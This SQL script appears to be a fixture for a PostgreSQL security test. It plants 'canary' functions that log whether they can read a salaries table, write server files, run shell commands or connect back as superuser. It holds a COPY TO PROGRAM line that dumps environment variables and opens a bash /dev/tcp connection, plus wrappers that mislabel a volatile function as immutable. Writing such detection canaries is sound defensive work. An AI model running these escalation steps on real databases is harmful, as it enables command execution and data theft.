-- What is planted everywhere: a function that tries everything, and one that passes for immutable.
CREATE SCHEMA canary;

CREATE FUNCTION canary.sing(place text) RETURNS integer LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
    IF current_setting('canary.' || place, true) = 'tried' THEN
        RETURN 1;
    END IF;
    PERFORM set_config('canary.' || place, 'tried', false);
    RAISE LOG 'canary % runs as %', place, current_user;
    BEGIN
        PERFORM set_config('application_name', 'canary ' || (SELECT amount FROM hr.salaries), false);
        RAISE LOG 'canary % leaks %', place, current_setting('application_name');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE format('COPY (SELECT 1) TO %L', '{directory}/' || place || '.file');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        PERFORM lo_export(lo_from_bytea(0, 'x'), '{directory}/' || place || '.object');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE format(
            'COPY (SELECT 1) TO PROGRAM %L',
            'exec 2>&-; env > {directory}/' || place || '.program; exec bash -c "echo ' || place
                || ' > /dev/tcp/127.0.0.1/{port}"'
        );
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        PERFORM dblink_exec(
            'hostaddr=127.0.0.1 port={port} user=postgres password=x dbname=postgres connect_timeout=5 sslmode=disable '
                || 'gssencmode=disable application_name=' || place,
            format('INSERT INTO songs VALUES (%L)', place)
        );
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN 1;
END
$f$;

CREATE FUNCTION canary.quiet(place text) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
$f$ BEGIN RETURN canary.sing(place); END $f$;

CREATE FUNCTION canary.stable(place text) RETURNS integer LANGUAGE plpgsql STABLE AS
$f$ BEGIN RETURN canary.sing(place); END $f$;
